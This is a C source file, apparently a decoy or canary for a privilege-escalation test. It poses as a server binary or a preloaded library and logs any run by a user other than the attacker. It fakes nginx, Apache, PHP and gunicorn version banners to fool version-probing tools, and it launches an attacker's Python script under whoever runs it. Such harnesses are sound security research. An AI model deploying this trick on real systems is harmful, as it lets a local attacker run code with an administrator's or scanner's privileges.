/* What the attacker has under the name of a server, in place of a library, or as `mark`.
 *
 * Whoever runs it as somebody else than him is told of: by a file in a folder that only root may
 * write in, and by a name that is seen from outside for a while, wherever it runs. USER, HOME,
 * MARKS and PORT are given to the compiler.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void tell(const char *how)
{
    if (getuid() == USER && geteuid() == USER)
        return;
    char path[4096];
    snprintf(path, sizeof path, MARKS "/ran.%d", getpid());
    int mark = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (mark >= 0)
        dprintf(mark, "%s, as uid %d\n", how, geteuid());
    prctl(PR_SET_NAME, "not-his-own");
    usleep(300000);
}

#ifdef LIBRARY
__attribute__((constructor)) static void loaded(void)
{
    tell("a library of his");
}
#else
static int says_version(const char *word)
{
    static const char *asked[] = {"-V", "-v", "--version", "-t", "-m", "-l", "-S", "version"};
    for (unsigned k = 0; k < sizeof asked / sizeof *asked; k++)
        if (!strcmp(word, asked[k]))
            return 1;
    return 0;
}

int main(int count, char **words)
{
    char said[4096];
    const char *name = strrchr(words[0], '/') ? strrchr(words[0], '/') + 1 : words[0];
    snprintf(said, sizeof said, "%s %s", words[0], count > 1 ? words[1] : "");
    tell(said);
    int is_his = getuid() == USER && geteuid() == USER, is_mark = !strcmp(name, "mark");
    /* A server tries when it serves; who was only to be asked, when that is done with rights. */
    int is_asked = 0;
    for (int k = 1; k < count; k++)
        is_asked |= says_version(words[k]);
    if (!is_mark && (!is_asked || !is_his) && access(HOME "/way_out.py", R_OK) == 0)
        system("exec /usr/bin/python3 -S -E " HOME "/way_out.py once");
    if (is_mark)
        return 0;
    if (is_asked) {
        fprintf(stderr, "nginx version: nginx/1.22.1\nconfigure arguments: --prefix=%s\n", HOME);
        printf("Server version: Apache/2.4.57 (Debian)\nPHP 8.2.1 (fpm-fcgi)\n"
               "gunicorn (version 20.1.0)\n -D HTTPD_ROOT=\"%s\"\n", HOME);
        return 0;
    }
    int one = 1, listener = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT)};
    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (void *)&at, sizeof at) || listen(listener, 64))
        pause();
    for (;;) {
        char asked[4096];
        int each = accept(listener, 0, 0);
        if (read(each, asked, sizeof asked) > 0)
            dprintf(each, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok");
        close(each);
    }
}
#endif
